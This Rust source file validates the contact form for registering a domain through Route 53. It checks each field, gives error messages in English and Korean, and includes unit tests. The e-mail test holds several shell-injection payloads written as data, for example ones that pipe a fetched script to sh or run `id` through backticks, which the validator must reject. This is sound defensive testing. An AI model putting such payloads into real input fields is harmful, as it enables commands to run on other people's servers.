//! The registrant contact for a Route 53 domain purchase, parsed per field.
//!
//! Route 53 Domains rejects the whole `RegisterDomain` call for one malformed field (a phone
//! number without the `+82.` prefix is the classic). Parsing each field here, with the rule in
//! the message, lets the form show every problem next to its field before anything is paid.

use crate::text::{msg, Message};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;

/// An e-mail address in a deliberately small syntax: a local part of `A-Z a-z 0-9 . _ % + -`, one
/// `@`, and a domain of DNS labels with at least one dot; stored in lower case.
///
/// Why so strict: the free path writes the address into `certbot -m ...`, a command that runs as
/// root on a student's instance, and the registrant contact goes to Route 53. Nothing a shell
/// treats specially (`;` `|` `$` backtick quotes spaces newlines ...) can be in an `Email`, so a
/// script cannot be broken by one even before [`crate::shell::quote`] (which it also goes
/// through). Addresses real people use for school and work fit; exotic RFC 5322 forms do not.
/// Serialised as the plain string, so stored values decode as before (an old one that no longer
/// parses fails to decode, and the step that reads it says so instead of running).
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct Email(String);

impl Email {
    /// The longest address SMTP carries (RFC 5321: 254 characters in a path).
    pub const MAX_LEN: usize = 254;

    pub fn parse(raw: &str) -> Result<Email, Message> {
        let t = raw.trim();
        if t.is_empty() {
            return Err(msg(
                "Enter an e-mail address you read, such as kim@example.com.",
                "확인할 수 있는 이메일 주소를 입력하세요. 예: kim@example.com.",
            ));
        }
        if let Some(c) = t.chars().find(|c| !(c.is_ascii_alphanumeric() || "._%+-@".contains(*c))) {
            let (en, ko) = crate::shell::named(c);
            return Err(msg(
                format!(
                    "An e-mail address cannot contain {en}: use letters, digits and . _ % + - before the @, and a domain such as example.com after it (kim.minji@example.com)."
                ),
                format!(
                    "이메일 주소에는 {ko}을(를) 쓸 수 없습니다. @ 앞에는 영문자, 숫자와 . _ % + - 만, @ 뒤에는 example.com 같은 도메인을 쓰세요 (예: kim.minji@example.com)."
                ),
            ));
        }
        let n = t.len();
        if n > Email::MAX_LEN {
            return Err(msg(
                format!("The address is {n} characters long; an e-mail address has at most 254. Use a shorter one."),
                format!("주소가 {n}자입니다. 이메일 주소는 최대 254자입니다. 더 짧은 주소를 쓰세요."),
            ));
        }
        let t = t.to_ascii_lowercase();
        let Some((local, domain)) = t.split_once('@').filter(|(_, d)| !d.contains('@')) else {
            return Err(msg(
                "This is not an e-mail address: it needs exactly one @, as in kim@example.com.",
                "이메일 주소가 아닙니다. kim@example.com처럼 @가 정확히 하나 있어야 합니다.",
            ));
        };
        let local_ok = !local.is_empty()
            && local.len() <= 64
            && !local.starts_with(['.', '-'])
            && !local.ends_with('.')
            && !local.contains("..");
        if !local_ok {
            return Err(msg(
                format!(
                    "The part before the @ (\"{local}\") is not usable: it must not be empty, start with . or -, end with . or have two dots in a row. Write it like kim.minji@example.com."
                ),
                format!(
                    "@ 앞부분(\"{local}\")을 쓸 수 없습니다. 비어 있거나, . 또는 -로 시작하거나, .으로 끝나거나, 마침표가 두 개 연달아 있으면 안 됩니다. kim.minji@example.com처럼 쓰세요."
                ),
            ));
        }
        let labels: Vec<&str> = domain.split('.').collect();
        let label_ok = |l: &&str| {
            (1..=63).contains(&l.len())
                && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
                && !l.starts_with('-')
                && !l.ends_with('-')
        };
        let tld_ok = labels.last().is_some_and(|l| l.chars().any(|c| c.is_ascii_alphabetic()));
        if labels.len() < 2 || !labels.iter().all(label_ok) || !tld_ok {
            return Err(msg(
                format!(
                    "The part after the @ (\"{domain}\") is not a domain: write a name with a dot, such as example.com or snu.ac.kr (letters, digits and - between the dots)."
                ),
                format!(
                    "@ 뒷부분(\"{domain}\")이 도메인이 아닙니다. example.com이나 snu.ac.kr처럼 마침표가 있는 이름을 쓰세요 (마침표 사이에는 영문자, 숫자, -만)."
                ),
            ));
        }
        Ok(Email(t))
    }

    /// Known good, for a page that shows the script before an address is typed.
    pub fn placeholder() -> Email {
        Email("you@example.com".into())
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for Email {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}
impl TryFrom<String> for Email {
    type Error = String;
    fn try_from(v: String) -> Result<Self, String> {
        Email::parse(&v).map_err(|m| m.en)
    }
}
impl From<Email> for String {
    fn from(v: Email) -> String {
        v.0
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ContactField {
    FirstName,
    LastName,
    Email,
    Phone,
    AddressLine1,
    City,
    State,
    CountryCode,
    ZipCode,
}

impl ContactField {
    pub const ALL: [ContactField; 9] = [
        ContactField::FirstName,
        ContactField::LastName,
        ContactField::Email,
        ContactField::Phone,
        ContactField::AddressLine1,
        ContactField::City,
        ContactField::State,
        ContactField::CountryCode,
        ContactField::ZipCode,
    ];
    pub fn key(self) -> &'static str {
        match self {
            ContactField::FirstName => "first_name",
            ContactField::LastName => "last_name",
            ContactField::Email => "email",
            ContactField::Phone => "phone",
            ContactField::AddressLine1 => "address_line1",
            ContactField::City => "city",
            ContactField::State => "state",
            ContactField::CountryCode => "country_code",
            ContactField::ZipCode => "zip_code",
        }
    }
}

/// The contact form as typed.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ContactInput {
    pub first_name: String,
    pub last_name: String,
    pub email: String,
    pub phone: String,
    pub address_line1: String,
    pub city: String,
    pub state: String,
    pub country_code: String,
    pub zip_code: String,
}

/// A checked contact, ready for `RegisterDomain`. Privacy protection is always on.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Contact {
    pub first_name: String,
    pub last_name: String,
    pub email: String,
    /// `+<country code>.<number>`, as Route 53 wants it.
    pub phone: String,
    pub address_line1: String,
    pub city: String,
    pub state: Option<String>,
    pub country_code: String,
    pub zip_code: String,
}

/// One message per bad field, in English and Korean.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ContactErrors(pub BTreeMap<ContactField, Message>);

impl ContactErrors {
    /// The field's message in English.
    pub fn get(&self, f: ContactField) -> Option<&str> {
        self.0.get(&f).map(|m| m.en.as_str())
    }
    /// The field's message in Korean when `korean`, else in English.
    pub fn said(&self, f: ContactField, korean: bool) -> Option<&str> {
        self.0.get(&f).map(|m| m.said(korean))
    }
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

/// Countries whose addresses Route 53 requires a state or province for.
const NEEDS_STATE: &[&str] = &["US", "CA", "AU", "BR", "MX", "IN"];

/// Calling codes for the countries a Korean student team is likely to enter, to turn
/// `010-1234-5678` into `+82.1012345678`.
const CALLING_CODES: &[(&str, &str)] = &[
    ("KR", "82"),
    ("US", "1"),
    ("CA", "1"),
    ("JP", "81"),
    ("CN", "86"),
    ("GB", "44"),
    ("DE", "49"),
    ("FR", "33"),
    ("AU", "61"),
    ("SG", "65"),
    ("IN", "91"),
];

/// What a required field says: `what` in English, and the Korean when it is empty and when it
/// is too long.
struct Required {
    what: &'static str,
    ko_empty: &'static str,
    ko_long: &'static str,
}

fn required(v: &str, r: Required) -> Result<String, Message> {
    let t = v.trim();
    if t.is_empty() {
        Err(msg(format!("Enter {}.", r.what), r.ko_empty))
    } else if t.chars().count() > 255 {
        Err(msg(format!("{} is too long (255 characters at most).", r.what), r.ko_long))
    } else {
        Ok(t.to_string())
    }
}

/// The registrant's e-mail: an [`Email`], kept as the plain string Route 53 takes (a purchase run
/// stored before [`Email`] existed still decodes), with why the address matters.
fn parse_email(v: &str) -> Result<String, Message> {
    Email::parse(v).map(String::from).map_err(|problem| {
        problem.then(&msg(
            "AWS sends a verification e-mail there, and the domain is suspended if it is not confirmed within 15 days.",
            "AWS가 그 주소로 확인 이메일을 보내며, 15일 안에 확인하지 않으면 도메인이 정지됩니다.",
        ))
    })
}

/// Accepts `+82.1012345678`, `+82 10-1234-5678` or, with a known country, `010-1234-5678`.
fn parse_phone(v: &str, country: Option<&str>) -> Result<String, Message> {
    let t = v.trim();
    let help = || {
        msg(
            "Enter the phone number with its country code, for example +82.1012345678 (Korea) or +1.2065550100 (US).",
            "국가 번호를 포함해 전화번호를 입력하세요. 예: +82.1012345678 (한국) 또는 +1.2065550100 (미국).",
        )
    };
    if t.is_empty() {
        return Err(help());
    }
    let digits_of = |s: &str| s.chars().filter(char::is_ascii_digit).collect::<String>();
    if t.chars().any(|c| !(c.is_ascii_digit() || " -.()+".contains(c))) {
        return Err(help());
    }
    let (code, number) = if let Some(rest) = t.strip_prefix('+') {
        match rest.split_once(['.', ' ', '-']) {
            Some((code, number)) => (digits_of(code), digits_of(number)),
            None => return Err(help()),
        }
    } else {
        let Some(code) =
            country.and_then(|c| CALLING_CODES.iter().find(|(cc, _)| *cc == c)).map(|(_, code)| code.to_string())
        else {
            return Err(help());
        };
        let mut number = digits_of(t);
        // A national trunk prefix (the 0 of 010-...) is dropped after the country code.
        if number.starts_with('0') {
            number.remove(0);
        }
        (code, number)
    };
    if code.is_empty() || code.len() > 3 || !(4..=15).contains(&number.len()) {
        return Err(help());
    }
    Ok(format!("+{code}.{number}"))
}

impl ContactInput {
    pub fn parse(&self) -> Result<Contact, ContactErrors> {
        let mut e = BTreeMap::new();
        let mut put = |f: ContactField, r: Result<String, Message>| match r {
            Ok(v) => Some(v),
            Err(m) => {
                e.insert(f, m);
                None
            }
        };
        let country = self.country_code.trim().to_ascii_uppercase();
        let country_ok = country.len() == 2 && country.chars().all(|c| c.is_ascii_uppercase());
        let first_name = put(
            ContactField::FirstName,
            required(
                &self.first_name,
                Required {
                    what: "the first (given) name",
                    ko_empty: "이름(성 제외)을 입력하세요.",
                    ko_long: "이름(성 제외)이 너무 깁니다 (최대 255자).",
                },
            ),
        );
        let last_name = put(
            ContactField::LastName,
            required(
                &self.last_name,
                Required {
                    what: "the last (family) name",
                    ko_empty: "성을 입력하세요.",
                    ko_long: "성이 너무 깁니다 (최대 255자).",
                },
            ),
        );
        let email = put(ContactField::Email, parse_email(&self.email));
        let phone = put(ContactField::Phone, parse_phone(&self.phone, country_ok.then_some(country.as_str())));
        let address_line1 = put(
            ContactField::AddressLine1,
            required(
                &self.address_line1,
                Required {
                    what: "the street address",
                    ko_empty: "도로명 주소를 입력하세요.",
                    ko_long: "도로명 주소가 너무 깁니다 (최대 255자).",
                },
            ),
        );
        let city = put(
            ContactField::City,
            required(
                &self.city,
                Required {
                    what: "the city",
                    ko_empty: "도시를 입력하세요.",
                    ko_long: "도시 이름이 너무 깁니다 (최대 255자).",
                },
            ),
        );
        let country_code = put(
            ContactField::CountryCode,
            if country_ok {
                Ok(country.clone())
            } else {
                Err(msg(
                    "Enter the two-letter country code, for example KR for Korea or US.",
                    "두 글자 국가 코드를 입력하세요. 예: 한국은 KR, 미국은 US.",
                ))
            },
        );
        let state = if NEEDS_STATE.contains(&country.as_str()) {
            put(
                ContactField::State,
                required(
                    &self.state,
                    Required {
                        what: "the state or province (required for this country)",
                        ko_empty: "주(州) 또는 도를 입력하세요 (이 국가에서는 필수입니다).",
                        ko_long: "주(州) 또는 도 이름이 너무 깁니다 (최대 255자).",
                    },
                ),
            )
            .map(Some)
        } else {
            Some(Some(self.state.trim().to_string()).filter(|s| !s.is_empty()))
        };
        let zip_code = put(
            ContactField::ZipCode,
            required(
                &self.zip_code,
                Required {
                    what: "the postal code",
                    ko_empty: "우편번호를 입력하세요.",
                    ko_long: "우편번호가 너무 깁니다 (최대 255자).",
                },
            ),
        );
        match (first_name, last_name, email, phone, address_line1, city, state, country_code, zip_code) {
            (
                Some(first_name),
                Some(last_name),
                Some(email),
                Some(phone),
                Some(address_line1),
                Some(city),
                Some(state),
                Some(country_code),
                Some(zip_code),
            ) if e.is_empty() => {
                Ok(Contact { first_name, last_name, email, phone, address_line1, city, state, country_code, zip_code })
            }
            _ => Err(ContactErrors(e)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn good() -> ContactInput {
        ContactInput {
            first_name: "Minji".into(),
            last_name: "Kim".into(),
            email: "Minji@Example.com".into(),
            phone: "010-1234-5678".into(),
            address_line1: "1 Gwanak-ro".into(),
            city: "Seoul".into(),
            state: "".into(),
            country_code: "kr".into(),
            zip_code: "08826".into(),
        }
    }

    #[test]
    fn korean_contact_normalises() {
        let c = good().parse().unwrap();
        assert_eq!(c.phone, "+82.1012345678");
        assert_eq!(c.email, "minji@example.com");
        assert_eq!(c.country_code, "KR");
        assert_eq!(c.state, None);
    }

    #[test]
    fn phone_forms() {
        assert_eq!(parse_phone("+1.2065550100", None).unwrap(), "+1.2065550100");
        assert_eq!(parse_phone("+82 10-1234-5678", None).unwrap(), "+82.1012345678");
        assert!(parse_phone("1234", None).is_err());
        assert!(parse_phone("010-1234-5678", None).is_err(), "no country, no prefix");
        assert!(parse_phone("call me", Some("KR")).is_err());
    }

    #[test]
    fn email_refuses_shell_characters_with_the_field_message() {
        // The finding (issue 19): this address ran a command on the instance through certbot -m.
        for bad in [
            "a@b.co;curl${IFS}x.sh|sh",
            "a@b.co`id`",
            "$(touch /tmp/x)@b.co",
            "a|b@b.co",
            "a'b@b.co",
            "a\"b@b.co",
            "a@b.co\ntouch x",
            "a b@b.co",
            "a&b@b.co",
            "a@b.co>x",
            "a\\b@b.co",
        ] {
            let e = ContactInput { email: bad.into(), ..good() }.parse().unwrap_err();
            let en = e.get(ContactField::Email).unwrap_or_else(|| panic!("{bad:?} was accepted"));
            assert!(en.starts_with("An e-mail address cannot contain "), "{bad:?}: {en}");
            assert!(en.contains("such as example.com") && en.contains("AWS sends a verification"), "{en}");
            assert!(e.said(ContactField::Email, true).is_some_and(|k| k.starts_with("이메일 주소에는 ")), "{bad:?}");
            assert!(Email::parse(bad).is_err(), "{bad:?}");
        }
        let e = Email::parse("a@b.co;curl${IFS}x.sh|sh").unwrap_err();
        assert!(e.en.contains("cannot contain \";\""), "the character is named: {}", e.en);
        assert!(Email::parse("a@b.co\nx").unwrap_err().en.contains("a line break"));
    }

    #[test]
    fn email_syntax() {
        for ok in ["kim@example.com", "Kim.Minji+cap_1%x@Mail.SNU.ac.kr", " a-b@x-y.io "] {
            let e = Email::parse(ok).unwrap_or_else(|m| panic!("{ok}: {}", m.en));
            assert_eq!(e.as_str(), ok.trim().to_ascii_lowercase());
        }
        for bad in ["", "kim", "kim@", "@example.com", "a@@b.com", "a@b@c.com", "a@localhost", "a@b..com", "a@-b.com"] {
            assert!(Email::parse(bad).is_err(), "{bad:?}");
        }
        for bad in [".a@b.com", "a.@b.com", "a..b@b.com", "-oX@b.com", "a@b.123", "a@b_c.com", "a@b.com."] {
            assert!(Email::parse(bad).is_err(), "{bad:?}");
        }
        assert!(Email::parse(&format!("{}@example.com", "a".repeat(65))).is_err());
        // Stored as the plain string; an old value that no longer parses does not decode.
        let e = Email::parse("kim@example.com").unwrap();
        assert_eq!(serde_json::to_string(&e).unwrap(), "\"kim@example.com\"");
        assert_eq!(serde_json::from_str::<Email>("\"kim@example.com\"").unwrap(), e);
        assert!(serde_json::from_str::<Email>("\"a@b.co;id\"").is_err());
        assert!(Email::parse(Email::placeholder().as_str()).is_ok());
    }

    #[test]
    fn every_bad_field_is_named() {
        let bad = ContactInput { country_code: "USA".into(), ..Default::default() };
        let e = bad.parse().unwrap_err();
        for f in [
            ContactField::FirstName,
            ContactField::LastName,
            ContactField::Email,
            ContactField::Phone,
            ContactField::AddressLine1,
            ContactField::City,
            ContactField::CountryCode,
            ContactField::ZipCode,
        ] {
            assert!(e.get(f).is_some(), "{f:?}");
            assert!(
                e.said(f, true).is_some_and(|m| m.chars().any(|c| ('\u{AC00}'..='\u{D7A3}').contains(&c))),
                "{f:?}"
            );
        }
        assert_eq!(e.get(ContactField::City), Some("Enter the city."));
        assert_eq!(e.said(ContactField::City, false), Some("Enter the city."));
        let us = ContactInput { country_code: "US".into(), phone: "+1.2065550100".into(), ..good() };
        assert!(us.parse().unwrap_err().get(ContactField::State).is_some(), "US needs a state");
    }
}
